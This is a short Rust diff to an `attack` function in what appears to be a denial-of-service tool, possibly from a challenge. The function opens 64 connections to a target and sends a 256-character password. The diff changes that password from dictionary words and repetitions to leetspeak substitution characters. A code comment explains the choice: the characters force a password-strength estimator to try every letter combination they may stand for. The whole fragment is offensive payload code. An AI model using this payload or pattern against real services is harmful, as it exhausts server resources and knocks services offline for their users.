@@ -8,8 +8,8 @@ use crate::target::Target;
 const CONNECTIONS: usize = 64;
 
 pub(crate) async fn attack(mut target: Target) -> String {
-    // Words, repetitions and years next to each other match many patterns of the estimate.
-    let password: String = "password1qwertyaaaabcabc2020".chars().cycle().take(256).collect();
+    // The estimate tries all combinations of letters that these characters may stand for.
+    let password: String = "4@8({[<369 1!|70$5+%2".chars().cycle().take(256).collect();
     let mut attackers = Vec::new();
     for _ in 0..CONNECTIONS {
         attackers.push(Attacker::connect(target.address).await);
